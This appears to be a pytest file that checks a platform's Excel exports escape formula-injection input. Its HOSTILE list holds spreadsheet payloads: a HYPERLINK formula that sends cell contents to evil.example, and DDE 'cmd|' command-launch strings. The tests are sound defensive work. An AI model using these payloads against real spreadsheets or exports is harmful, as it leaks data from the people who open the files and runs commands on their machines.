"""Exports write text as text: a name beginning with a formula character comes out as a
string cell with an apostrophe before it, in every workbook the platform writes."""

import io

import openpyxl
import pytest

from jiceng.core.xlsx import FORMULA_TRIGGERS, safe_row, safe_text, workbook
from jiceng.members import services as member_services
from jiceng.members.exports import member_export, statistics_export, template_workbook
from jiceng.members.models import Member
from jiceng.orgs.exports import coverage_export
from jiceng.orgs.models import Unit
from tests.members.factories import facts

# One payload per trigger: Excel's formula, the DDE classics, an at-function, and the
# tab and carriage return that spreadsheet readers skip before finding the formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_text_only(content: bytes, expected: list[str]) -> None:
    cells = list(_cells(content))
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    # OOXML stores a carriage return as the escape _x000D_, which openpyxl keeps.
    values = {c.value.replace("_x000D_", "\r") for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert "'" + value in values, value


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_text_prefixes_each_trigger(value):
    assert safe_text(value) == "'" + value
    assert safe_row([value, 3, None]) == ["'" + value, 3, None]


@pytest.mark.parametrize("value", ["张伟", "1+1", "a=b", "", "'=already"])
def test_safe_text_leaves_ordinary_text_alone(value):
    assert safe_text(value) == value


def test_every_trigger_is_covered():
    assert {v[0] for v in HOSTILE} == set(FORMULA_TRIGGERS)


def test_the_shared_workbook_writes_no_formula_by_any_write_method():
    buffer = io.BytesIO()
    book = workbook(buffer)
    sheet = book.add_worksheet("x")
    for row, value in enumerate(HOSTILE):
        sheet.write(row, 0, value)
        sheet.write_string(row, 1, value)
        sheet.write_row(row, 2, [value, value])
    sheet.write_column(0, 4, HOSTILE)
    book.close()
    _assert_text_only(buffer.getvalue(), HOSTILE)


def test_member_and_coverage_exports_hold_no_formula(territory):
    keeper = territory.users["xh_c1_secretary"]
    org = territory.orgs["xh_c1_b1"]
    for value in HOSTILE:
        member = member_services.member_register(actor=keeper, org=org, facts=facts())
        # As an old import or another system may have left them: the input policy
        # trims leading tabs and carriage returns, so those are set directly.
        Member.objects.filter(pk=member.pk).update(name=value, work_unit_name=value, post=value)
    unit = territory.units["xh_own"]
    for value in HOSTILE:
        Unit.objects.filter(pk=unit.pk).update(name=value)
        content, _count = coverage_export(
            actor=territory.users["xh_admin"], area=territory.areas["xh"]
        )
        _assert_text_only(content, [value])
    content, count = member_export(actor=keeper, area=territory.areas["xh_c1"])
    assert count == len(HOSTILE)
    _assert_text_only(content, HOSTILE)
    _assert_text_only(statistics_export(actor=keeper, area=territory.areas["xh_c1"]), [])
    _assert_text_only(template_workbook(), [])
